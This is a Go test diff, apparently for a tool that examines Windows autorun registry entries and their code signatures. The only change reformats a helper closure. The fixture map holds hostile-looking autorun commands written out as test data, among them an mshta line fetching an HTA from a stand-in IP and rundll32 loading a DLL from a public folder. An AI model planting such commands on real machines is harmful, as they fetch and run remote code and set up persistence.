@@ -43,7 +43,9 @@ func verifiable(t *testing.T) string {
 	t.Helper()
 	unsigned, signed, tampered, own := signedFiles(t)
 	var software, alice registrytest.Hive
-	run := func(h *registrytest.Hive, key, name, command string) { h.Set(key, when, registrytest.ExpandSZ(name, command)) }
+	run := func(h *registrytest.Hive, key, name, command string) {
+		h.Set(key, when, registrytest.ExpandSZ(name, command))
+	}
 	for name, command := range map[string]string{
 		"unsigned": `"C:\Program Files\unsigned.exe" /q`, "signed": `%ProgramFiles%\signed.exe`, "tampered": `C:\tampered.exe`, "own": `C:\own.exe`,
 		"hosted": `rundll32 C:\Users\Public\x.dll,Go`, "sound host": `C:\tampered.exe`, "script": `wscript C:\s.vbs`, "absent": `C:\absent.exe`, "url": `mshta http://198.51.100.1/a.hta`,
